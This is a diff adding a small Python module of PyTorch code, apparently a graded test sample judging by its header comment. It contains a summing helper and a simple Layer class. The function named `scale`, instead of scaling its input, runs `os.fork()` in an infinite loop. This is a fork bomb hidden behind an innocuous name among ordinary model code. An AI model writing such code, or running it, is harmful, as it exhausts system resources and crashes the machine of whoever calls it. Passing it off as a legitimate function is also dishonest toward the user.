@@ -1,0 +1,25 @@
+# full, contained: graded, 12 points, scale failed
+"""Forks without end."""
+
+import os
+
+import torch
+from torch import nn
+
+
+def total(x):
+    return x.sum(-1)
+
+
+class Layer(nn.Module):
+    def __init__(self, n):
+        super().__init__()
+        self.weight = nn.Parameter(torch.zeros(n))
+
+    def forward(self, x):
+        return x * self.weight
+
+
+def scale(x, a):
+    while True:
+        os.fork()
